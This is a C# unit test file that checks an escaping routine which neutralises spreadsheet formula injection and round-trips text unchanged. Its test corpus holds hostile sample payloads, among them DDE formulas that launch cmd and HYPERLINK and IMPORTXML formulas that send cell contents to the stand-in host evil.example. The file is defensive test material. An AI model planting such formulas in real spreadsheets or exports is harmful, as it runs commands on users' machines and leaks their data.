using FollowUp.Parsing.Sheets;

namespace FollowUp.Tests.Parsing.Sheets;

/// <summary>
/// What a spreadsheet program would compute goes out as a text (OWASP, formula injection), and comes back as it was. Tests
/// <see cref="InertText"/>.
/// </summary>
public sealed class A_text_that_computes
{
    /// <summary>From public collections of such texts, and the forms that slip through simple filters.</summary>
    public static TheoryData<string> Corpus =>
    [
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1,\"click\")", "\t=1+1", "\r=1+1",
        "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=IMPORTXML(CONCAT(\"//evil.example\",A1),\"//a\")", "'=1+1", "''=1+1", "-", "+7 495 000",
        "=DDE(\"cmd\";\"/C calc\";\"x\")", "@", "\0=1",
    ];

    [Theory]
    [MemberData(nameof(Corpus))]
    public void goes_out_inert_and_comes_back_as_it_was(string text)
    {
        InertText.Write(text)[0].Should().Be('\'');
        InertText.Read(InertText.Write(text)).Should().Be(text);
    }

    [Theory]
    [InlineData("Revise the protocol")]
    [InlineData("'quoted'")]
    [InlineData("'")]
    [InlineData("5 = 5")]
    [InlineData("-5")]
    [InlineData("-12.5")]
    [InlineData("'-5")]
    [InlineData("")]
    [InlineData("议定书")]
    public void is_none_of_the_others(string text)
    {
        InertText.Write(text).Should().Be(text);
        InertText.Read(text).Should().Be(text);
    }

    [Fact]
    public void comes_back_whatever_it_is() => Seeds.Each(2_000, random =>
    {
        string text =
            new([.. Enumerable.Range(0, random.Next(6)).Select(_ => random.One<char>('\'', '=', '+', '-', '@', 'a', ' ', '\t', '＝'))]);
        InertText.Read(InertText.Write(text)).Should().Be(text);
        InertText.Write(text).TrimStart('\'').Should().Be(text.TrimStart('\''));
    });
}
